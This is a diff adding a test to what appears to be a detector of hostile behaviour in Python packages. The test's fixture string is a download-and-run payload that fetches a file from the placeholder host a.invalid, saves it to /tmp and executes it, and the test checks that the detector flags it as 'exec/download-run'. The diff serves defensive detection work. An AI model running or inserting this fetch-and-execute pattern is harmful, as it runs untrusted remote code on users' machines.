@@ -191,3 +191,17 @@ def test_a_default_of_python_does_not_hide_what_it_stands_in_for(default):
     )
     found = facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
     assert "net/exfil-chain" in found
+
+
+def test_a_program_that_was_fetched_is_named_by_where_it_came_from() -> None:
+    code = (
+        "import subprocess, urllib.request\n"
+        "answer = urllib.request.urlopen('https://a.invalid/x')\n"
+        "with open('/tmp/x', 'wb') as file:\n"
+        "    body = answer.read()\n"
+        "    file.write(body)\n"
+        "subprocess.call(['/tmp/x'])\n"
+    )
+    found = facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
+    (run,) = found["exec/download-run"]
+    assert "https://a.invalid/x" in [value.text for value in run.values]
